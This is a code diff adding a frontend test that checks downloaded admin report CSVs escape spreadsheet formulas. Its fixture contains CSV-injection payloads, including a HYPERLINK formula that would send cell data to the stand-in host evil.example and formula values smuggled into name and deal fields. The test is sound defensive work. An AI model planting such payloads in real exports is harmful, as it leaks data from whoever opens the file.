@@ -1,6 +1,7 @@
 import { fireEvent, screen, waitFor, within } from '@testing-library/react';
+import Papa from 'papaparse';
 import { afterEach, describe, expect, it, vi } from 'vitest';
-import { MESSAGES } from '../../shared/constants';
+import { MESSAGES, PATTERNS } from '../../shared/constants';
 import type { RedemptionReport } from '../../shared/schemas/admin-stats';
 import { dashboardFixture } from './fixtures/admin-stats';
 import { homeFixture } from './fixtures/home-data';
@@ -91,5 +92,25 @@ describe('Reports', () => {
     const months = (await downloads.text(1)).split('\r\n').slice(1).map((l) => l.split(','));
     expect(months.reduce((n, [, r]) => n + Number(r), 0)).toBe(report.totals.redemptions);
     expect(months.reduce((n, [, , s]) => n + Number(s), 0)).toBeCloseTo(report.totals.savings, 2);
+  });
+
+  it('downloads CSV files in which no cell can start a spreadsheet formula', async () => {
+    const evil = '=HYPERLINK("https://evil.example/?"&A3,"Open")';
+    const hostile: RedemptionReport = {
+      ...report,
+      byBusiness: [{ bpId: 'bp-evil', businessName: evil, redemptions: 1, savings: 2 }],
+      byDeal: [{ bpId: 'bp-evil', dealId: 'd9', businessName: '@SUM(A1:A9)', deal: '-20% off\n=1+1', redemptions: 1, savings: 2 }],
+    };
+    signedIn('admin');
+    vi.stubGlobal('fetch', stubApi({ 'admin/redemptionreport': ok(hostile) }).fetchStub);
+    const downloads = captureDownloads();
+    renderApp({ route: '/admin/reports', home: homeFixture });
+    await screen.findByRole('table', { name: 'Redemptions by business' });
+    fireEvent.click(within(screen.getByRole('region', { name: 'By business' })).getByRole('button', { name: 'Download CSV' }));
+    fireEvent.click(within(screen.getByRole('region', { name: 'By deal' })).getByRole('button', { name: 'Download CSV' }));
+    const files = await Promise.all([0, 1].map(async (n) => Papa.parse<string[]>(await downloads.text(n)).data));
+    expect(files.flat(2).filter((cell) => PATTERNS.formulaStart.test(cell))).toEqual([]);
+    expect(files[0]![1]).toEqual([`'${evil}`, '1', '2.00']);
+    expect(files[1]![1]).toEqual(["'@SUM(A1:A9)", "'-20% off\n=1+1", '1', '2.00']);
   });
 });
